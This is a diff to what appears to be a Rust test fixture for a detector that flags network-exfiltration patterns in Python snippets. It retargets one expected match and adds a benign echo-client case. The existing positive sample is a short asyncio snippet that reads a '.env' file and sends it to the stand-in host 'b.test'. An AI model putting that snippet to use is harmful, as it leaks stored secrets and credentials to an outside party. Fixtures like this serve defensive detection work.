@@ -154,7 +154,12 @@ const PYTHON: &[Example] = &[
     (
         "socket",
         "import asyncio\nclass Up(asyncio.Protocol):\n    def connection_made(self, tr):\n        tr.write(open('.env', 'rb').read())\nawait asyncio.get_running_loop().create_connection(Up, 'b.test', 9)",
-        Some("import"),
+        Some("b.test"),
+    ),
+    (
+        "socket",
+        "import asyncio\nclass Echo(asyncio.Protocol):\n    def data_received(self, d):\n        print(d)\nawait asyncio.get_running_loop().create_connection(Echo, 'b.test', 7)",
+        None,
     ),
 ];
 
